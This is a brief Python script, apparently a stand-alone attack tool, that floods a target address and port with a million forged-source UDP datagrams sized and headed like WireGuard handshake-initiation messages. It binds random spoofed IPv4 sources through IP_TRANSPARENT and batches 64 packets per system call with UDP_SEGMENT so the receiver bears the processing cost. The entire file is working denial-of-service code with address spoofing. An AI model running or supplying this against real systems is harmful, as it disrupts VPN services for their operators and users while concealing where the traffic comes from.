"""A million UDP datagrams under forged sources, the size of a WireGuard handshake: flood.py ADDRESS PORT SECONDS

Each source sends 64 of them in one system call, so that it is the receiver that has the work. Prints how many were sent.
"""
import os, random, socket, sys, time

SIZE, AT_ONCE, ALL = 148, 64, 1_000_000
UDP_SEGMENT = 103
address, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
began, sent = time.monotonic(), 0
while sent < ALL:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_IP, socket.IP_TRANSPARENT, 1)
        sock.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, SIZE)
        source = f"{random.choice((11, 45, 80, 151))}.{random.randrange(256)}.{random.randrange(256)}.{random.randrange(1, 255)}"
        sock.bind((source, random.randrange(1024, 65536)))
        # The first kind of a handshake's messages, with nothing true in it.
        handshake = b"\1\0\0\0" + os.urandom(SIZE - 4)
        sock.sendto(handshake * AT_ONCE, (address, port))
    sent += AT_ONCE
    if (ahead := began + sent / ALL * seconds - time.monotonic()) > 0:
        time.sleep(ahead)
print(sent)
